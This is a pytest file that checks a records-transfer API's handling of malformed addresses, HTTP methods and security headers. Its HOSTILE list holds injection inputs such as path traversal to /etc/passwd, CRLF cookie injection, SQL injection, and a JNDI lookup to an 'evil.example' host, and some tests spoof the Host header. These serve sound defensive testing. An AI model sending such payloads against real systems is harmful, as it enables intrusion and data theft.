"""Addresses and methods: what is not there is not there, and no answer repeats what stood in an address."""

import pytest

from tests import canary
from tests.api.asking import Asking, problem_of

HOSTILE = [
    "..%2f..%2fetc%2fpasswd", "%2e%2e", "%00", "a%00b", "%ff%fe", "%0d%0aSet-Cookie:%20a=b", "~", "*",
    "'%20OR%201=1--",
    "{digest}", "${jndi:ldap://evil.example}", "A" * 44, "A" * 42, "A" * 5_000, "%F0%9F%98%80" * 43,
    f"{canary.WORD}%20{canary.NHS_NUMBER}",
]  # fmt: skip
PLACES = ("/v1/records/{}", "/v1/records/{}/token", "/v1/transfers/{}", "/v1/transfers/{}/evidence", "/status/{}")


@pytest.mark.parametrize("place", PLACES)
def test_a_hostile_id_is_only_an_id_that_is_not_there(asking: Asking, place: str) -> None:
    for hostile in HOSTILE:
        answer = asking.ask("GET", place.format(hostile))
        assert (hostile[:20], answer.status_code) in {(hostile[:20], 400), (hostile[:20], 404)}
        assert problem_of(answer)["code"] in {"not-found", "parameter-wrong"}
        assert canary.found_in(answer.content + str(answer.headers).encode()) == []
        assert "set-cookie" not in answer.headers


@pytest.mark.parametrize("number", ["00", "+0", "-1", "1_0", "0x0", "%D9%A0", "1e0", " 0", "9" * 30])
def test_a_status_list_has_one_name(asking: Asking, number: str) -> None:
    assert asking.ask("GET", "/status/0").status_code == 200
    assert problem_of(asking.ask("GET", f"/status/{number}"))["code"] == "parameter-wrong"


@pytest.mark.parametrize(
    "path", ["/v1", "/v1/", "/v1/records/", "/federation", "/log", "/metrics", "/redoc", "/V1/records"]
)
def test_there_is_nothing_under_another_name_and_no_redirect(asking: Asking, path: str) -> None:
    answer = asking.ask("GET", path, host="evil.example")
    assert (answer.status_code, problem_of(answer)["code"]) == (404, "not-found")
    assert b"evil.example" not in answer.content + str(answer.headers).encode()


@pytest.mark.parametrize(
    ("path", "wanted", "leads_to"),
    [("/", "cy-GB,cy;q=0.9,en;q=0.8", "/cy/"), ("/", "fr", "/en/"), ("/", "", "/en/"), ("/cy", "en", "/cy/")],
)
def test_the_front_leads_to_the_pages_wherever_the_request_says_it_is(
    asking: Asking, path: str, wanted: str, leads_to: str
) -> None:
    answer = asking.ask("GET", path, host="evil.example", accept_language=wanted)
    assert (answer.status_code, answer.headers["location"]) == (303, leads_to)


@pytest.mark.parametrize(
    ("path", "methods"),
    [
        ("/v1/records", "GET, HEAD, POST"),
        ("/v1/events", "GET, HEAD"),
        ("/v1/transfers/00000000-0000-4000-8000-000000000000/arrived", "POST"),
        ("/federation/messages", "POST"),
        ("/log/proofs", "POST"),
        ("/log/checkpoint", "GET, HEAD"),
        ("/livez", "GET, HEAD"),
        ("/openapi.json", "GET, HEAD"),
        ("/docs", "GET, HEAD"),
        ("/.well-known/openid-federation", "GET, HEAD"),
    ],
)
def test_another_method_is_refused_and_told_which_there_are(asking: Asking, path: str, methods: str) -> None:
    for method in {"GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"} - set(methods.split(", ")):
        answer = asking.ask(method, path, b"{}")
        assert (answer.status_code, problem_of(answer)["code"]) == (405, "method-wrong")
        assert answer.headers["allow"] == methods
        assert asking.changes() == set()


@pytest.mark.parametrize("path", ["/livez", "/readyz", "/log/checkpoint", "/v1/records", "/v1/nothing", "/docs"])
def test_head_is_answered_like_get_without_a_body(asking: Asking, path: str) -> None:
    asking.ask("GET", "/status/0")
    got, head = asking.ask("GET", path), asking.ask("HEAD", path)
    assert (head.status_code, head.content) == (got.status_code, b"")
    assert head.headers["content-type"] == got.headers["content-type"]
    assert head.headers["content-length"] == str(len(got.content))


def test_every_answer_may_be_kept_by_nobody_and_guessed_at_by_no_browser(asking: Asking) -> None:
    for path in ("/v1/records", f"/v1/records/{asking.plan}", "/v1/nothing", "/livez", "/docs", "/openapi.json"):
        headers = asking.ask("GET", path).headers
        assert headers["cache-control"] == "no-store"
        assert headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert "access-control-allow-origin" not in headers


def test_the_federation_operator_answers_wrong_questions_in_the_form_of_its_standard(asking: Asking) -> None:
    for query, error in (
        ("", "invalid_request"),
        ("?sub=", "invalid_request"),
        ("?sub=%00", "invalid_request"),
        ("?sub=gwynedd", "invalid_request"),
        ("?sub=https://federation.example", "invalid_request"),
        (f"?sub=https://{'a' * 5_000}.example", "invalid_request"),
        (f"?sub=https://{canary.WORD.lower()}.example", "not_found"),
    ):
        answer = asking.ask("GET", f"/federation/fetch{query}", to=asking.world.anchor)
        assert answer.json()["error"] == error
        assert answer.status_code == (404 if error == "not_found" else 400)
        assert canary.found_in(answer.content) == []
    assert asking.ask("GET", "/federation/list?entity_type=openid_provider", to=asking.world.anchor).json() == []
    assert len(asking.ask("GET", "/federation/list", to=asking.world.anchor).json()) == 2
    wrong = asking.ask("GET", "/federation/list?trust_marked=true", to=asking.world.anchor)
    assert wrong.json()["error"] == "unsupported_parameter"
    for path in ("/v1/records", "/v1/events", "/federation/messages", "/status/0"):
        assert asking.ask("GET", path, to=asking.world.anchor).status_code == 404
